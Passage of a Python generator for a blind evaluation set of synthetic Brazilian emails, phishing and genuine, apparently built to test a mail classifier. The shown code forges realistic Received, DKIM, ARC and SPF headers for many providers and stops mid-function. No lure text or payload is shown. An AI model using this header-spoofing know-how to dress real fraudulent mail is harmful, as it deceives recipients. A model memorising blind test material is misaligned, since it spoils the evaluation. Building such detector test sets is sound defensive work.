"""Blind evaluation set 47: Brazil, mail in Brazilian Portuguese (2024-2026) as it reaches consumers on
Outlook.com/Hotmail, Gmail, UOL, BOL and Terra and small companies on Locaweb, Microsoft 365 and
self-hosted Postfix: bank token/Pix/limit lures and "compra não reconhecida" callbacks, loyalty points,
gov.br/Receita/Detran, Correios and carrier fees, Serasa, retailers and streaming, utilities and telecoms,
Meta account lures, job scams, Portuguese sextortion, BEC and NF-e/DANFE/intimação banking-trojan
droppers, next to the genuine notices, NF-e mails, boletos, newsletters and personal mail of the same
population. Run: cd /work/main && .venv/bin/python samples/tools/build_blind47_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import sys
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from email import policy
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

N = 47
ROOT = HERE.parent.parent
MAIL = ROOT / "samples" / "mail"
MANIFEST = HERE / f"blind{N}_manifest.txt"
# Maintainer's corrections after the first scan: filed where the engine's classification puts them
# (the names keep the writer's kind).
REFILED: dict[str, str] = {
    "b47-legit-govbr-alteracao-email": "clean",
}

SEED = "blind47-br"
BRT = timezone(timedelta(hours=-3))

# ---------------------------------------------------------------- deterministic helpers


def _digest(tag: str) -> bytes:
    out = b""
    i = 0
    while len(out) < 256:
        out += hashlib.sha256(f"{SEED}|{tag}|{i}".encode()).digest()
        i += 1
    return out


def hx(tag: str, n: int) -> str:
    return _digest(tag).hex()[:n]


def HX(tag: str, n: int) -> str:
    return hx(tag, n).upper()


def alnum(tag: str, n: int, alphabet: str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") -> str:
    d = _digest(tag)
    return "".join(alphabet[b % len(alphabet)] for b in d[:n])


def lower(tag: str, n: int) -> str:
    return alnum(tag, n, "abcdefghijklmnopqrstuvwxyz0123456789")


def upper(tag: str, n: int) -> str:
    return alnum(tag, n, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")


def digits(tag: str, n: int) -> str:
    return alnum(tag, n, "0123456789")


def b64s(tag: str, n: int) -> str:
    return base64.b64encode(_digest(tag)).decode()[:n]


def num(tag: str, lo: int, hi: int) -> int:
    return lo + int.from_bytes(_digest(tag)[:4], "big") % (hi - lo + 1)


def uuid(tag: str) -> str:
    h = hx(tag, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


def dt(y, mo, d, h, mi, s=0) -> datetime:
    return datetime(y, mo, d, h, mi, s, tzinfo=BRT)


def rfc(d: datetime) -> str:
    return format_datetime(d)


def utc(d: datetime) -> str:
    return format_datetime(d.astimezone(timezone.utc)).replace("-0000", "+0000")


def _pacific(d: datetime) -> tuple[datetime, str]:
    u = d.astimezone(timezone.utc)
    y = u.year
    # US DST: second Sunday of March 10:00 UTC to first Sunday of November 09:00 UTC
    march = datetime(y, 3, 8, 10, tzinfo=timezone.utc)
    while march.weekday() != 6:
        march += timedelta(days=1)
    nov = datetime(y, 11, 1, 9, tzinfo=timezone.utc)
    while nov.weekday() != 6:
        nov += timedelta(days=1)
    if march <= u < nov:
        return u.astimezone(timezone(timedelta(hours=-7))), "PDT"
    return u.astimezone(timezone(timedelta(hours=-8))), "PST"


def pst(d: datetime) -> str:
    p, name = _pacific(d)
    return f"{format_datetime(p)} ({name})"


def enc(s: str, charset: str = "utf-8", mode: str = "B") -> str:
    """RFC 2047 encode a header value when it is not ASCII, in words short enough to fold."""
    try:
        s.encode("ascii")
        return s
    except UnicodeEncodeError:
        pass
    words = []
    chunk = ""
    limit = 42 if mode == "B" else 30
    for ch in s:
        if len((chunk + ch).encode(charset)) > limit:
            words.append(chunk)
            chunk = ""
        chunk += ch
    if chunk:
        words.append(chunk)
    out = []
    for w in words:
        raw = w.encode(charset)
        if mode == "B":
            out.append(f"=?{charset.upper() if charset == 'utf-8' else charset}?B?{base64.b64encode(raw).decode()}?=")
        else:
            q = "".join(
                "_" if b == 0x20 else (chr(b) if (48 <= b <= 57 or 65 <= b <= 90 or 97 <= b <= 122 or chr(b) in "!*+-/")
                                     else f"={b:02X}")
                for b in raw)
            out.append(f"=?{charset.upper() if charset == 'utf-8' else charset}?Q?{q}?=")
    return "\n ".join(out)


def addr(name: str, email: str, charset: str = "utf-8", mode: str = "B", quote: bool = True) -> str:
    if not name:
        return email
    e = enc(name, charset, mode)
    if e == name:
        needs = any(c in name for c in ',.;:()<>@[]"') or quote
        e = f'"{name}"' if needs else name
    return f"{e} <{email}>"


def fold_b64(tag: str, n: int, indent: str = "\t ") -> str:
    s = b64s(tag + "#0", min(n, 200)) + b64s(tag + "#1", max(0, n - 200))
    s = s[:n]
    return ("\n" + indent).join(s[i:i + 70] for i in range(0, len(s), 70))


def dkim_sig(d: str, s: str, tag: str, hdrs: str = "from:to:subject:date:message-id:mime-version:content-type",
             t: datetime | None = None, extra: str = "") -> str:
    ts = f" t={int(t.timestamp())};" if t else ""
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n"
            f"\ts={s};{ts}{extra}\n"
            f"\th={hdrs};\n"
            f"\tbh={b64s(tag + 'bh', 43)}=;\n"
            f"\tb={fold_b64(tag + 'b', 342)}==")


def org(domain: str) -> str:
    parts = domain.lower().split(".")
    if len(parts) >= 3 and parts[-1] == "br" and parts[-2] in ("com", "gov", "org", "net", "edu", "sp", "leg", "jus",
                                                                 "mp", "coop", "art", "ind", "eco"):
        if len(parts) >= 4 and parts[-2] in ("sp",) and parts[-3] == "gov":
            return ".".join(parts[-4:])
        if parts[-2] == "gov" and len(parts) >= 4 and len(parts[-3]) == 2:
            return ".".join(parts[-4:])
        return ".".join(parts[-3:])
    return ".".join(parts[-2:])


# ---------------------------------------------------------------- message model


@dataclass
class Mail:
    stem: str
    folder: str
    desc: str
    rcpt: str
    rx: str  # gmail, outlook, m365, uol, bol, terra, postfix, locaweb
    origin: str  # sender-side profile
    from_name: str
    from_addr: str
    subject: str
    date: datetime
    body: object
    to: str = ""
    mailfrom: str = ""
    ip: str = ""
    helo: str = ""
    rdns: str | None = ""
    dkim: list = field(default_factory=list)  # (domain, selector, result)
    spf: str = "pass"
    dmarc: str = ""  # auto when empty
    policy: str = ""  # p= of the From domain ("" = no record)
    msgid: str = ""
    extra: list = field(default_factory=list)
    cc: str = ""
    reply_to: str = ""
    charset: str = "utf-8"
    hmode: str = "B"
    rx_host: str = ""  # postfix/locaweb/m365 receiving host or tenant
    pre: list = field(default_factory=list)  # extra Received hops (sender side, newest first)
    xmailer: str = ""


def _aligned(a: str, b: str) -> bool:
    return org(a) == org(b)


def auth_view(m: Mail):
    from_dom = m.from_addr.split("@")[1].lower()
    mf_dom = m.mailfrom.split("@")[1].lower() if "@" in m.mailfrom else m.helo
    dk = [(d, s, r) for d, s, r in m.dkim]
    if m.dmarc:
        dmarc = m.dmarc
    elif not m.policy:
        dmarc = "none"
    else:
        ok = (m.spf == "pass" and _aligned(mf_dom, from_dom)) or any(r == "pass" and _aligned(d, from_dom) for d, s, r in dk)
        dmarc = "pass" if ok else "fail"
    return from_dom, mf_dom, dk, dmarc


# ---------------------------------------------------------------- sender-side profiles


def origin_headers(m: Mail) -> tuple[list[str], list[str]]:
    """Received hops added on the sending side (newest first) and the headers its software writes."""
    t = m.date
    tag = m.stem
    rl, rd = m.rcpt.split("@")
    hops: list[str] = list(m.pre)
    extra: list[str] = []
    o = m.origin
    if o == "sendgrid":
        pod = num(tag + "pod", 1, 9)
        sgid = b64s(tag + "sgid", 22).replace("+", "-").replace("/", "_")
        hops += [f"Received: by filterdrecv-{hx(tag+'fd', 10)}-{lower(tag+'fd2', 5)} with SMTP id "
                 f"filterdrecv-{hx(tag+'fd', 10)}-{lower(tag+'fd2', 5)}-1-{HX(tag+'fd3', 8)}-{num(tag+'fd4', 10, 99)}\n"
                 f"        {utc(t + timedelta(seconds=1))}",
                 f"Received: from {b64s(tag+'sgh', 22).replace('/', '_').replace('+', '-')} (unknown)\n"
                 f"\tby geopod-ismtpd-{pod} (SG) with HTTP\n\tid {sgid}\n\tfor <{m.rcpt}>; {utc(t)}"]
        m.msgid = m.msgid or f"<{sgid}@geopod-ismtpd-{pod}>"
        extra += [f"X-SG-EID:\n =?us-ascii?Q?u001.{b64s(tag+'eid', 60).replace('=', '=3D')}?=",
                  f"X-Entity-ID: u001.{b64s(tag+'ent', 24)}"]
        if not m.mailfrom:
            m.mailfrom = f"bounces+{digits(tag+'b', 8)}-{hx(tag+'b2', 4)}-{rl}={rd}@em{digits(tag+'em', 4)}.{m.from_addr.split('@')[1]}"
        m.ip = m.ip or f"149.72.{num(tag+'i3', 1, 254)}.{num(tag+'i4', 1, 254)}"
        m.helo = m.helo or f"o{num(tag+'o', 1, 9)}.ptr{digits(tag+'ptr', 4)}.{org(m.from_addr.split('@')[1])}"
        if not m.dkim:
            m.dkim = [(org(m.from_addr.split('@')[1]), "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")]
    elif o == "ses":
        mid = f"0100019{hx(tag+'ses', 9)}-{uuid(tag+'sesu')}-000000"
        m.msgid = m.msgid or f"<{mid}@email.amazonses.com>"
        extra += [f"Feedback-ID: ::1.us-east-1.{b64s(tag+'fb', 44)}=:AmazonSES",
                  f"X-SES-Outgoing: {t.astimezone(timezone.utc):%Y.%m.%d}-{m.ip or '54.240.8.33'}"]
        m.mailfrom = m.mailfrom or f"{mid}@amazonses.com"
        m.ip = m.ip or f"54.240.{num(tag+'i3', 8, 11)}.{num(tag+'i4', 1, 254)}"
        m.helo = m.helo or f"a{m.ip.split('.')[2]}-{m.ip.split('.')[3]}.smtp-out.amazonses.com"
        if not m.dkim:
            m.dkim = [(m.from_addr.split('@')[1], lower(tag + 'sel', 32), "pass"),
                      ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")]
    elif o == "mailgun":
        mg = m.from_addr.split("@")[1]
        mgd = mg if mg.startswith("mg.") else f"mg.{org(mg)}"
        hops.append(f"Received: by {hx(tag+'mgh', 12)} with HTTP id {hx(tag+'mgi', 24)}; {utc(t)}")
        m.msgid = m.msgid or f"<{t.astimezone(timezone.utc):%Y%m%d%H%M%S}.{hx(tag+'mgm', 16)}@{mgd}>"
        extra += [f"X-Mailgun-Sid: Wy{b64s(tag+'sid', 60)}", f"Sender: postmaster@{mgd}"]
        m.mailfrom = m.mailfrom or f"bounce+{hx(tag+'bn', 6)}.{hx(tag+'bn2', 16)}-{rl}={rd}@{mgd}"
        m.ip = m.ip or f"159.135.{num(tag+'i3', 224, 239)}.{num(tag+'i4', 1, 254)}"
        m.helo = m.helo or f"m{m.ip.split('.')[2]}-{m.ip.split('.')[3]}.mailgun.net"
        if not m.dkim:
            m.dkim = [(mgd, "krs", "pass")]
    elif o == "brevo":
        m.msgid = m.msgid or f"<{uuid(tag+'br')}@smtp-relay.mailin.fr>"
        extra += [f"X-Mailin-EID: {b64s(tag+'mei', 40)}%3D", f"X-CSA-Complaints: csa-complaints@eco.de",
                  f"Feedback-ID: {num(tag+'fid', 1000000, 9999999)}:{num(tag+'fid2', 10, 99)}:brevo"]
        m.mailfrom = m.mailfrom or f"bounces-{digits(tag+'bb', 9)}-{rl}={rd}@bounces.sender-sib.com"
        m.ip = m.ip or f"77.32.148.{num(tag+'i4', 2, 250)}"
        m.helo = m.helo or f"smtp-relay-{num(tag+'sr', 10, 99)}.sendinblue.com"
        hops.append(f"Received: from smtp-relay.mailin.fr (unknown [10.{num(tag+'r1',1,250)}.{num(tag+'r2',1,250)}."
                    f"{num(tag+'r3',1,250)}]) by {m.helo} with ESMTP id {HX(tag+'bid', 12)}\n"
                    f"\tfor <{m.rcpt}>; {utc(t)}")
        if not m.dkim:
            m.dkim = [("sendinblue.com", "mail", "pass")]
    elif o == "egoi":
        m.msgid = m.msgid or f"<{hx(tag+'eg', 32)}@mail.e-goi.com>"
        extra += [f"X-Mailer: E-goi", f"X-EGOI-CID: {digits(tag+'cid', 6)}",
                  f"Feedback-ID: {digits(tag+'fid', 6)}:{digits(tag+'lid', 4)}:egoi"]
        m.mailfrom = m.mailfrom or f"bounce-{hx(tag+'bb', 20)}@bounce.e-goi.com"
        m.ip = m.ip or f"185.{num(tag+'i2', 158, 159)}.{num(tag+'i3', 100, 120)}.{num(tag+'i4', 1, 250)}"
        m.helo = m.helo or f"mta{num(tag+'mta', 10, 99)}.e-goi.com"
        if not m.dkim:
            m.dkim = [("e-goi.com", "egoi", "pass")]
    elif o == "sfmc":
        fd = m.from_addr.split("@")[1]
        m.msgid = m.msgid or f"<{uuid(tag+'sf')}@ind1s{num(tag+'s', 1, 9):02d}mta{num(tag+'m', 100, 999)}.xt.local>"
        m.mailfrom = m.mailfrom or (f"bounce-{num(tag+'b1',10,99)}_HTML-{digits(tag+'b2', 9)}-{digits(tag+'b3', 7)}-"
                                    f"{digits(tag+'b4', 8)}-{num(tag+'b5', 1, 9)}@bounce.{fd}")
        m.ip = m.ip or f"13.111.{num(tag+'i3', 1, 250)}.{num(tag+'i4', 1, 250)}"
        m.helo = m.helo or f"mta.{fd}"
        hops.append(f"Received: by {m.helo} id {hx(tag+'sfi', 28)} for <{m.rcpt}>; {rfc(t)} "
                    f"(envelope-from <{m.mailfrom}>)")
        extra += [f"X-SFMC-Stack: {num(tag+'stk', 1, 12)}", f"x-job: {digits(tag+'job', 7)}_{digits(tag+'j2', 7)}"]
        if not m.dkim:
            m.dkim = [(fd, "200608", "pass")]
    elif o in ("gmail", "gws"):
        fd = m.from_addr.split("@")[1]
        if not m.ip:
            third = [128, 160, 161, 166, 167, 208, 210, 214, 215, 216, 218, 219, 221, 222][num(tag+'i3', 0, 13)]
            m.ip = f"209.85.{third}.{num(tag+'i4', 41, 230)}"
        m.helo = m.helo or (f"mail-{['yw1', 'pl1', 'wm1', 'lj1', 'ej1', 'qt1', 'oi1', 'pj1', 'yb1', 'ed1'][num(tag+'h', 0, 9)]}"
                            f"-f{m.ip.split('.')[3]}.google.com")
        m.mailfrom = m.mailfrom or m.from_addr
        hops += [f"Received: by {m.helo.split('.')[0]}.google.com with SMTP id "
                 f"{lower(tag+'sid', 10)}so{digits(tag+'sd', 6)}{lower(tag+'s3', 3)}.{num(tag+'s4', 1, 9)}\n"
                 f"        for <{m.rcpt}>; {pst(t)}",
                 f"X-Gm-Message-State: AOJu0Y{b64s(tag+'gms', 60)}\n\t{b64s(tag+'gms2', 40)}",
                 f"X-Google-Smtp-Source: AGHT+I{b64s(tag+'gss', 64)}",
                 f"X-Received: by 2002:a05:{hx(tag+'xr', 4)}:{hx(tag+'xr2', 4)}:b0:{hx(tag+'xr3', 3)}:{hx(tag+'xr4', 4)} "
                 f"with SMTP id {lower(tag+'xs', 20)}.{num(tag+'xs2', 10, 999)}.{int(t.timestamp()) * 1000 + num(tag+'xs3', 100, 999)};\n"
                 f"        {pst(t + timedelta(seconds=1))}"]
        m.msgid = m.msgid or f"<CA{alnum(tag+'mi', 2)}{b64s(tag+'mid', 40).replace('/', '_')}@mail.gmail.com>"
        if not m.dkim:
            if o == "gmail":
                m.dkim = [("gmail.com", "20230601", "pass")]
            else:
                m.dkim = [(fd, "google", "pass")]
    elif o in ("outlook", "m365"):
        box = f"{pick_box(tag)}"
        hops.append(f"Received: from {box}.BRAP284.PROD.OUTLOOK.COM\n ([fe80::{hx(tag+'f1', 4)}:{hx(tag+'f2', 4)}:{hx(tag+'f3', 4)}"
                    f":{hx(tag+'f4', 4)}]) by {box}.BRAP284.PROD.OUTLOOK.COM\n ([fe80::{hx(tag+'f1', 4)}:{hx(tag+'f2', 4)}:"
                    f"{hx(tag+'f3', 4)}:{hx(tag+'f4', 4)}%{num(tag+'pct', 3, 7)}]) with mapi id 15.20.{num(tag+'v1', 8000, 9400)}."
                    f"{num(tag+'v2', 10, 40)}; {utc(t)}")
        m.msgid = m.msgid or f"<{box}{upper(tag+'mi', 8)}{upper(tag+'mi2', 8)}@{box}.BRAP284.PROD.OUTLOOK.COM>"
        m.ip = m.ip or f"52.103.{num(tag+'i3', 0, 250)}.{num(tag+'i4', 1, 250)}"
        m.helo = m.helo or f"{'BRZPR' if o == 'outlook' else 'CPWPR'}{num(tag+'hh', 1, 9):02d}CU00{num(tag+'h2', 1, 9)}.outbound.protection.outlook.com"
        m.mailfrom = m.mailfrom or m.from_addr
        fd = m.from_addr.split("@")[1]
        if not m.dkim:
            if fd in ("hotmail.com", "outlook.com", "live.com", "outlook.com.br", "hotmail.com.br"):
                m.dkim = [(fd, "selector1", "pass")]
            else:
                m.dkim = [(fd, "selector1", "pass")]
        extra += [f"Thread-Topic: {strip_re(m.subject)}", f"Thread-Index: {b64s(tag+'ti', 36)}",
                  "Accept-Language: pt-BR, en-US", "Content-Language: pt-BR", "X-MS-Has-Attach:" +
                  (" yes" if has_attach(m.body) else ""), "X-MS-TNEF-Correlator:",
                  f"x-ms-exchange-messagesentrepresentingtype: 1",
                  f"x-ms-traffictypediagnostic: {box}:EE_|{box[:10]}{upper(tag+'td', 5)}:EE_"]
    elif o == "locaweb":
        auth_user = m.extra_auth if hasattr(m, "extra_auth") else m.from_addr
        m.ip = m.ip or f"191.252.{num(tag+'i3', 112, 120)}.{num(tag+'i4', 1, 250)}"
        m.helo = m.helo or f"smtp-sp{num(tag+'sp', 200, 299)}-{num(tag+'sp2', 10, 99)}.email-ssl.com.br"
        m.mailfrom = m.mailfrom or m.from_addr
        client = getattr(m, "client_ip", f"177.{num(tag+'c2', 10, 200)}.{num(tag+'c3', 1, 250)}.{num(tag+'c4', 1, 250)}")
        hops.append(f"Received: from [{client}] (unknown [{client}])\n\t(Authenticated sender: {auth_user})\n"
                    f"\tby {m.helo} (Postfix) with ESMTPSA id {upper(tag+'q', 11)}\n\tfor <{m.rcpt}>; {rfc(t)}")
        m.msgid = m.msgid or f"<{hx(tag+'lw', 32)}@{m.from_addr.split('@')[1]}>"
    elif o == "phpmailer":
        host = m.helo or f"br{num(tag+'hg', 100, 999)}.hostgator.com.br"
        m.helo = host
        m.ip = m.ip or f"162.241.{num(tag+'i3', 2, 250)}.{num(tag+'i4', 2, 250)}"
        site = getattr(m, "site", m.from_addr.split("@")[1])
        user = getattr(m, "cpuser", lower(tag + "cpu", 8))
        m.mailfrom = m.mailfrom or f"{user}@{host}"
        hops.append(f"Received: from [{getattr(m, 'client_ip', '45.' + str(num(tag+'a', 10, 250)) + '.' + str(num(tag+'b', 1, 250)) + '.' + str(num(tag+'c', 1, 250)))}]"
                    f" (port={num(tag+'port', 40000, 65000)} helo=www.{site})\n"
                    f"\tby {host} with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n"
                    f"\t(Exim 4.96.2)\n\t(envelope-from <{m.mailfrom}>)\n"
                    f"\tid 1t{alnum(tag+'ex', 4)}-{upper(tag+'ex2', 10)}-{upper(tag+'ex3', 3)}\n\tfor {m.rcpt};\n\t{rfc(t)}")
        m.msgid = m.msgid or f"<{alnum(tag+'pm', 40)}@{site}>"
        extra += ["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
                  f"X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
                  f"X-AntiAbuse: Primary Hostname - {host}",
                  f"X-AntiAbuse: Original Domain - {rd}",
                  f"X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]",
                  f"X-AntiAbuse: Sender Address Domain - {m.mailfrom.split('@')[1]}",
                  f"X-Get-Message-Sender-Via: {host}: authenticated_id: {user}@{site}",
                  f"X-Authenticated-Sender: {host}: {user}@{site}"]
    elif o == "zimbra":
        fd = m.from_addr.split("@")[1]
        mh = m.helo or f"mail.{fd}"
        m.helo = mh
        m.mailfrom = m.mailfrom or m.from_addr
        hops += [f"Received: from {mh} (localhost [127.0.0.1])\n\tby {mh} (Postfix) with ESMTP id {upper(tag+'z1', 10)}\n"
                 f"\tfor <{m.rcpt}>; {rfc(t + timedelta(seconds=2))}",
                 f"Received: from {mh} ({mh} [127.0.0.1])\n\tby localhost ({mh} [127.0.0.1]) (amavis, port 10026) with ESMTP\n"
                 f"\tid {alnum(tag+'am', 12)}; {rfc(t + timedelta(seconds=1))}",
                 f"Received: from {mh} (localhost [127.0.0.1])\n\tby {mh} (Postfix) with ESMTP id {upper(tag+'z2', 10)}\n"
                 f"\tfor <{m.rcpt}>; {rfc(t)}"]
        m.msgid = m.msgid or f"<{num(tag+'zm', 100000000, 999999999)}.{num(tag+'zm2', 1000000, 9999999)}.{int(t.timestamp())}{num(tag+'ms', 100, 999)}.JavaMail.zimbra@{fd}>"
        extra += [f"X-Originating-IP: [{getattr(m, 'client_ip', '187.' + str(num(tag+'oi', 10, 99)) + '.' + str(num(tag+'oi2', 1, 250)) + '.' + str(num(tag+'oi3', 1, 250)))}]",
                  "X-Mailer: Zimbra 9.0.0_GA_4583 (ZimbraWebClient - GC131 (Win)/9.0.0_GA_4583)",
                  f"Thread-Index: {b64s(tag+'zti', 28)}", f"Thread-Topic: {strip_re(m.subject)}"]
    elif o == "roundcube":
        fd = m.from_addr.split("@")[1]
        mh = m.helo or f"mail.{fd}"
        m.helo = mh
        m.mailfrom = m.mailfrom or m.from_addr
        hops.append(f"Received: from webmail.{fd} (localhost [127.0.0.1])\n\t(Authenticated sender: {m.from_addr})\n"
                    f"\tby {mh} (Postfix) with ESMTPSA id {upper(tag+'rc', 10)};\n\t{rfc(t)}")
        m.msgid = m.msgid or f"<{hx(tag+'rcm', 32)}@{fd}>"
        extra += ["User-Agent: Roundcube Webmail/1.6.9", f"X-Sender: {m.from_addr}"]
    elif o == "postfix":
        fd = m.from_addr.split("@")[1]
        mh = m.helo or f"mail.{fd}"
        m.helo = mh
        m.mailfrom = m.mailfrom or m.from_addr
        hops.append(f"Received: from localhost (localhost [127.0.0.1])\n\tby {mh} (Postfix) with ESMTPSA id {upper(tag+'pf', 10)}\n"
                    f"\tfor <{m.rcpt}>; {rfc(t)}")
        m.msgid = m.msgid or f"<{hx(tag+'pfm', 24)}@{mh}>"
    elif o == "direct":  # the sender's own MTA, no visible internal hop
        m.mailfrom = m.mailfrom or m.from_addr
        m.msgid = m.msgid or f"<{hx(tag+'dm', 24)}@{m.from_addr.split('@')[1]}>"
    else:
        raise ValueError(o)
    if m.xmailer:
        extra.append(f"X-Mailer: {m.xmailer}")
        if m.xmailer.startswith("Microsoft Outlook"):
            extra += [f"Thread-Index: {b64s(tag+'o16', 36)}", "Content-Language: pt-br"]
    return hops, extra


def pick_box(tag: str) -> str:
    return f"{['CP4P284MB', 'CPWP284MB', 'CP6P284MB', 'RO2P284MB', 'FR2P281MB'][num(tag+'bx', 0, 3)]}{num(tag+'bn', 1000, 3999)}"


def strip_re(s: str) -> str:
    for p in ("RE: ", "Re: ", "ENC: ", "Fwd: ", "RES: ", "Res: ", "FW: "):
        if s.startswith(p):
            s = s[len(p):]
    return enc(s)


def has_attach(node) -> bool:
    if isinstance(node, Multi):
        return any(has_attach(p) for p in node.parts)
    return node.disposition.startswith("attachment")


# ---------------------------------------------------------------- receiving side


def receive_headers(m: Mail) -> list[str]:
    t = m.date + timedelta(seconds=num(m.stem + "lag", 2, 9))
    tag = m.stem
    from_dom, mf_dom, dk, dmarc = auth_view(m)
    rdns = m.rdns if m.rdns is not None else None
    if m.rdns == "":
        rdns = m.helo
    rhost = f"{rdns} [{m.ip}]" if rdns else f"unknown [{m.ip}]"
    rx = m.rx
    out: list[str] = []
    if rx == "gmail":
        spf_txt = {"pass": f"pass (google.com: domain of {m.mailfrom} designates {m.ip} as permitted sender)",
                   "softfail": f"softfail (google.com: domain of transitioning {m.mailfrom} does not designate {m.ip} as permitted sender)",
                   "fail": f"fail (google.com: domain of {m.mailfrom} does not designate {m.ip} as permitted sender)",
                   "neutral": f"neutral (google.com: {m.ip} is neither permitted nor denied by best guess record for domain of {m.mailfrom})",
                   "none": f"none (google.com: {m.mailfrom} does not designate permitted sender hosts)"}[m.spf]
        ar = ["mx.google.com"]
        for d, s, r in dk:
            ar.append(f"dkim={r} header.i=@{d} header.s={s} header.b={b64s(tag+d, 8).replace('/', '_')}")
        ar.append(f"spf={spf_txt} smtp.mailfrom={m.mailfrom if '@' in m.mailfrom else m.helo}")
        if m.policy or dmarc != "none":
            p = (m.policy or "none").upper()
            ar.append(f"dmarc={dmarc} (p={p} sp={p} dis={'NONE' if dmarc == 'pass' or p == 'NONE' else ('QUARANTINE' if p == 'QUARANTINE' else 'NONE')}) header.from={from_dom}")
        arc_ar = ";\n       ".join(ar)
        out += [f"Delivered-To: {m.rcpt}",
                f"Received: by 2002:a05:{hx(tag+'g1', 4)}:{hx(tag+'g2', 4)}:b0:{hx(tag+'g3', 3)}:{hx(tag+'g4', 4)} with SMTP id "
                f"{lower(tag+'g5', 4)}csp{num(tag+'g6', 100000, 9999999)};\n        {pst(t + timedelta(seconds=1))}",
                f"X-Google-Smtp-Source: AGHT+I{b64s(tag+'rgs', 62)}",
                f"X-Received: by 2002:a05:{hx(tag+'h1', 4)}:{hx(tag+'h2', 4)}:b0:{hx(tag+'h3', 3)}:{hx(tag+'h4', 4)} with SMTP id "
                f"{lower(tag+'h5', 20)}.{num(tag+'h6', 10, 99)}.{int(t.timestamp()) * 1000 + num(tag+'h7', 100, 999)};\n"
                f"        {pst(t + timedelta(seconds=1))}",
                f"ARC-Seal: i=1; a=rsa-sha256; t={int(t.timestamp())}; cv=none;\n        d=google.com; s=arc-20240605;\n"
                f"        b={fold_b64(tag+'arcs', 342, '        ')}==",
                f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n"
                f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
                f"        bh={b64s(tag+'arcbh', 43)}=;\n        fh={b64s(tag+'arcfh', 43)}=;\n"
                f"        b={fold_b64(tag+'arcb', 342, '        ')}==;\n        dara=google.com",
                f"ARC-Authentication-Results: i=1; {arc_ar}",
                f"Return-Path: <{m.mailfrom}>",
                f"Received: from {m.helo} ({rhost})\n        by mx.google.com with ESMTPS id "
                f"{hx(tag+'m1', 13)}-{hx(tag+'m0', 11)}si{digits(tag+'m2', 7)}{lower(tag+'m3', 2)}.{num(tag+'m4', 10, 999)}.{_pacific(t)[0]:%Y.%m.%d.%H.%M.%S}\n"
                f"        for <{m.rcpt}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {pst(t)}",
                f"Received-SPF: {spf_txt} client-ip={m.ip};",
                f"Authentication-Results: {arc_ar}"]
    elif rx in ("outlook", "m365"):
        spf_word = {"pass": "Pass", "fail": "Fail", "softfail": "SoftFail", "neutral": "Neutral", "none": "None"}[m.spf]
        spf_why = {"pass": f"(sender IP is {m.ip})", "fail": f"(sender IP is {m.ip})", "softfail": f"(sender IP is {m.ip})",
                   "neutral": f"(sender IP is {m.ip})", "none": f"(sender IP is {m.ip})"}[m.spf]
        dk_parts = []
        for d, s, r in dk[:1]:
            dk_parts.append(f"dkim={r} ({'signature was verified' if r == 'pass' else 'signature did not verify'}) header.d={d}")
        if not dk:
            dk_parts.append("dkim=none (message not signed) header.d=none")
        action = "none" if dmarc in ("pass", "none", "bestguesspass") else ("oreject" if m.policy == "reject" else ("quarantine" if m.policy == "quarantine" else "none"))
        comp = "pass reason=100" if dmarc == "pass" else ("softpass reason=201" if dmarc == "none" and m.spf == "pass" else
                                                          ("fail reason=001" if dmarc == "fail" else "none reason=405"))
        ar = (f"Authentication-Results: spf={m.spf} {spf_why}\n smtp.mailfrom={mf_dom}; " + "; ".join(dk_parts) +
              f";dmarc={dmarc if dmarc != 'none' else ('bestguesspass' if m.spf == 'pass' and _aligned(mf_dom, from_dom) else 'none')} action={action}\n header.from={from_dom};compauth={comp}")
        if rx == "outlook":
            box1 = f"{['SA1P223MB', 'SJ0P223MB', 'CH3P223MB', 'DM4P223MB'][num(tag+'ob', 0, 3)]}{num(tag+'obn', 1000, 1999)}.NAMP223.PROD.OUTLOOK.COM"
            edge = f"{['SN1PEPF', 'SA2PEPF', 'DS3PEPF', 'CH1PEPF'][num(tag+'oe', 0, 3)]}000{HX(tag+'oen', 5)}.namprd05.prod.outlook.com"
            prot = f"{['SN1PEPF', 'SA2PEPF', 'DS3PEPF', 'CH1PEPF'][num(tag+'op', 0, 3)]}000{HX(tag+'opn', 5)}.mail.protection.outlook.com"
            org_id = "84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa"
        else:
            box1 = f"{pick_box(tag+'rx')}.BRAP284.PROD.OUTLOOK.COM"
            edge = f"CP{upper(tag+'me', 1)}P284CA00{num(tag+'men', 10, 99)}.BRAP284.PROD.OUTLOOK.COM"
            prot = f"CP{['1', '2', '4'][num(tag+'mp', 0, 2)]}PEPF000{HX(tag+'mpn', 5)}.BRAP284.PROD.OUTLOOK.COM"
            org_id = uuid(m.rx_host or tag)
        box0 = box1.split(".", 1)[0][:-4] + str(num(tag + "b0", 1000, 3999)) + "." + box1.split(".", 1)[1]
        out += [f"Received: from {box1} (::1) by\n {box0} with HTTPS; {utc(t + timedelta(seconds=2))}",
                f"Received: from {edge} (2603:10b6:{hx(tag+'v6', 3)}:{hx(tag+'v62', 3)}::{hx(tag+'v63', 2)}) by\n {box1} (2603:10b6:{hx(tag+'v64', 3)}:{hx(tag+'v65', 3)}::{hx(tag+'v66', 2)}) with\n"
